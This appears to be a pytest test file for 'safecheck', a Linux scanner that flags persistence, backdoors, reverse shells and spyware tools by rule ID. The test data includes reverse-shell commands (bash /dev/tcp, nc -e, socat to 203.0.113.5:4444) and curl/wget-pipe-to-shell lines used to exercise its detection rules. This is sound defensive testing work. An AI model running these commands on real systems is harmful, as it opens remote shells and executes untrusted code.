"""Which rule each entry triggers, on a tiny catalog written for the test."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from safecheck.catalog.index import CatalogIndex
from safecheck.catalog.model import Artifacts, Catalog, Category, PlatformArtifacts, Tool
from safecheck.core.entries import Entry, Hit
from safecheck.scan.analysis import judge
from safecheck.scan.analysis.base import Context

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def tool(tool_id: str, category: Category, **linux: tuple[str, ...]) -> Tool:
    return Tool(
        id=tool_id,
        name=tool_id.title(),
        category=category,
        does={"en": "It does things.", "fr": "Il fait des choses."},
        artifacts=Artifacts(linux=PlatformArtifacts(**linux)),
        sources=("Test, https://example.org",),
    )


CATALOG = Catalog(
    tools=(
        tool(
            "anydesk",
            Category.REMOTE_ACCESS,
            processes=("anydesk",),
            packages=("anydesk",),
            services=("anydesk",),
            paths=("/usr/libexec/anydesk",),
        ),
        tool("logkeys", Category.KEYLOGGER, processes=("logkeys",), packages=("logkeys",)),
        tool("kidlogger", Category.PARENTAL_CONTROL, processes=("kidlogger",)),
        tool("ngrok", Category.TUNNEL, processes=("ngrok",)),
        tool("spyapp", Category.MONITORING, paths=("/opt/spyapp",)),
    )
)


@pytest.fixture
def ctx() -> Context:
    owned = {"/usr/bin/cron", "/usr/sbin/sshd", "/etc/cron.d/packaged"}
    return Context(
        platform="linux",
        index=CatalogIndex(CATALOG),
        now=NOW,
        packaged=lambda path: path in owned,
    )


def entry(**fields: object) -> Entry:
    base: dict[str, object] = {
        "collector": "test",
        "kind": "cron-job",
        "location": "/etc/cron.d/x",
        "name": "x",
    }
    base.update(fields)
    return Entry(**base)  # type: ignore[arg-type]


def rules(hits: list[Hit]) -> list[str]:
    return sorted(h.rule for h in hits)


def test_benign_packaged_entry_gives_nothing(ctx: Context) -> None:
    old = NOW - timedelta(days=400)
    e = entry(
        command="/usr/bin/cron -f",
        program="/usr/bin/cron",
        modified=old,
        location="/etc/cron.d/packaged",
    )
    assert judge(e, ctx) == []


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "SC-LNX-NETWORK-SHELL"),
        ("nc -e /bin/sh 203.0.113.5 4444 ", "SC-LNX-NETWORK-SHELL"),
        ("socat tcp:203.0.113.5:4444 exec:/bin/bash", "SC-LNX-NETWORK-SHELL"),
        ("curl -fsSL http://x.example/a.sh | sh", "SC-LNX-DOWNLOAD-EXEC"),
        ("wget -qO- http://x.example/a | bash", "SC-LNX-DOWNLOAD-EXEC"),
        ("echo aGVsbG8= | base64 -d | sh", "SC-LNX-DOWNLOAD-EXEC"),
    ],
)
def test_command_patterns(ctx: Context, command: str, rule: str) -> None:
    assert rule in rules(judge(entry(command=command), ctx))


def test_ordinary_commands_are_not_shells(ctx: Context) -> None:
    for command in (
        "curl -o /var/cache/x http://example.org",
        "nc -z localhost 80",
        "run-parts /etc/cron.daily",
        "base64 file > out",
    ):
        assert judge(entry(command=command), ctx) == [], command


def test_temp_and_hidden_programs(ctx: Context) -> None:
    assert "SC-LNX-RUNS-FROM-TEMP" in rules(judge(entry(program="/dev/shm/x"), ctx))
    assert "SC-LNX-HIDDEN-PROGRAM" in rules(judge(entry(program="/home/a/.x/agent"), ctx))
    assert "SC-LNX-HIDDEN-PROGRAM" in rules(judge(entry(program="/usr/bin/.hid"), ctx))
    normal = judge(entry(program="/home/a/.local/bin/tool", location="/home/a/.config/a"), ctx)
    assert "SC-LNX-HIDDEN-PROGRAM" not in rules(normal)


def test_not_packaged_only_for_system_locations(ctx: Context) -> None:
    assert rules(judge(entry(program="/usr/local/bin/x"), ctx)) == ["SC-LNX-NOT-PACKAGED"]
    user = entry(program="/usr/local/bin/x", location="/home/a/.config/autostart/x.desktop")
    assert judge(user, ctx) == []
    hook = entry(kind="udev-rule", program="/usr/local/bin/x", location="/etc/udev/rules.d/a")
    assert rules(judge(hook, ctx)) == ["SC-LNX-HOOK"]


def test_unknown_package_database_is_not_a_finding() -> None:
    ctx = Context(platform="linux", index=CatalogIndex(CATALOG), now=NOW)
    assert judge(entry(program="/usr/local/bin/x"), ctx) == []


def test_recent_entries_newest_first_material(ctx: Context) -> None:
    hits = judge(entry(program="/usr/bin/cron", modified=NOW - timedelta(days=2)), ctx)
    assert rules(hits) == ["SC-LNX-RECENT-STARTUP"]
    assert judge(entry(program="/usr/bin/cron", modified=NOW + timedelta(days=30)), ctx) == []


def test_catalog_matches_by_kind(ctx: Context) -> None:
    pkg = judge(entry(kind="package", name="anydesk", location="/var/lib/dpkg/status"), ctx)
    assert [(h.rule, h.key) for h in pkg] == [("SC-TOOL-REMOTE-ACCESS", "anydesk")]
    proc = judge(entry(kind="process", name="logkeys", location="process", pid=4), ctx)
    assert rules(proc) == ["SC-TOOL-KEYLOGGER"]
    unit = entry(
        kind="systemd-unit",
        name="anydesk.service",
        details=(("unit", "anydesk"),),
        program="/usr/bin/anydesk",
        location="/usr/lib/systemd/system/anydesk.service",
    )
    hits = judge(unit, ctx)
    assert [h.rule for h in hits if h.tool] == ["SC-TOOL-REMOTE-ACCESS"]  # one hit per tool
    by_path = judge(entry(program="/opt/spyapp/bin/run"), ctx)
    assert "SC-TOOL-MONITORING" in rules(by_path)
    assert "SC-TOOL-PARENTAL" in rules(judge(entry(kind="process", name="kidlogger"), ctx))
    assert "SC-TOOL-TUNNEL" in rules(
        judge(entry(program="/home/a/bin/ngrok", location="/home/a/.bashrc"), ctx)
    )


def test_kinds_with_their_own_rules(ctx: Context) -> None:
    cases = {
        "uid0-account": "SC-LNX-EXTRA-ROOT",
        "ssh-key": "SC-LNX-SSH-KEY",
        "sudo-nopasswd": "SC-LNX-SUDO-NOPASSWD",
        "pam-exec": "SC-LNX-PAM-EXEC",
        "polkit-rule": "SC-LNX-POLKIT-ALLOW-ALL",
        "ld-preload": "SC-LNX-LD-PRELOAD",
    }
    for kind, rule in cases.items():
        assert rules(judge(entry(kind=kind), ctx)) == [rule], kind
    assert judge(entry(kind="ssh-server", enabled=False), ctx) == []
    assert rules(judge(entry(kind="ssh-server", enabled=True), ctx)) == ["SC-LNX-SSH-SERVER"]


def test_processes(ctx: Context) -> None:
    reader = entry(kind="process", name="evil", details=(("input-device", "/dev/input/event3"),))
    assert rules(judge(reader, ctx)) == ["SC-LNX-KEYBOARD-READER"]
    xorg = entry(kind="process", name="Xorg", details=(("input-device", "/dev/input/event3"),))
    assert judge(xorg, ctx) == []
    deleted = entry(kind="process", name="a", details=(("exe-deleted", "yes"),))
    assert rules(judge(deleted, ctx)) == ["SC-LNX-DELETED-PROGRAM"]
    tmp = entry(kind="process", name="a", program="/tmp/a")
    assert rules(judge(tmp, ctx)) == ["SC-LNX-RUNS-FROM-TEMP"]


def test_remote_desktop_ports(ctx: Context) -> None:
    vnc = entry(kind="listener", name="x11vnc", port=5900, location="socket")
    assert rules(judge(vnc, ctx)) == ["SC-NET-REMOTE-DESKTOP-PORT"]
    web = entry(kind="listener", name="nginx", port=8080, location="socket")
    assert judge(web, ctx) == []


def test_shell_line_reasons(ctx: Context) -> None:
    bg = entry(
        kind="shell-line",
        details=(("reason", "background"),),
        command="agent &",
        location="/home/a/.bashrc",
        line=3,
    )
    assert rules(judge(bg, ctx)) == ["SC-LNX-BACKGROUND-START"]
    pre = entry(
        kind="shell-line",
        details=(("reason", "ld-preload"),),
        command="export LD_PRELOAD=/x.so",
        location="/home/a/.bashrc",
    )
    assert rules(judge(pre, ctx)) == ["SC-LNX-LD-PRELOAD"]


def test_git_settings(ctx: Context) -> None:
    pager = entry(kind="git-config", name="core.pager", command="less -R", program="less")
    assert judge(pager, ctx) == []
    odd = entry(
        kind="git-config", name="core.pager", command="/home/a/.p/x", program="/home/a/.p/x"
    )
    assert rules(judge(odd, ctx)) == ["SC-LNX-GIT-HOOK"]
    monitor = entry(kind="git-config", name="core.fsmonitor", command="/tmp/m", program="/tmp/m")
    assert rules(judge(monitor, ctx)) == ["SC-LNX-GIT-HOOK"]
    hooks = entry(kind="git-config", name="core.hooksPath", details=(("value", "/x"),))
    assert rules(judge(hooks, ctx)) == ["SC-LNX-GIT-HOOK"]


def test_disabled_entries_only_count_for_the_catalog(ctx: Context) -> None:
    placeholder = entry(
        kind="cron-script", program="/etc/cron.daily/.placeholder", enabled=False, modified=NOW
    )
    assert judge(placeholder, ctx) == []
    disabled_tool = entry(kind="autostart", program="/usr/bin/ngrok", enabled=False)
    assert rules(judge(disabled_tool, ctx)) == ["SC-TOOL-TUNNEL"]


def test_a_program_run_from_memory_is_not_a_deleted_file(ctx: Context) -> None:
    def process(pid: int, program: str) -> Entry:
        return Entry(
            "common.processes",
            "process",
            "process",
            program.rsplit("/", 1)[-1],
            program=program,
            pid=pid,
            details=(("exe-deleted", "yes"),),
        )

    hits = [h for pid in (91, 92, 93) for h in judge(process(pid, "/memfd:sealed-91"), ctx)]
    assert {h.rule for h in hits} == {"SC-LNX-MEMORY-PROGRAM"}
    assert {h.key for h in hits} == {"/memfd:sealed-91"}  # three processes, one finding
    removed = judge(process(7, "/tmp/.x/updater"), ctx)
    assert [h.rule for h in removed if "PROGRAM" in h.rule] == ["SC-LNX-DELETED-PROGRAM"]
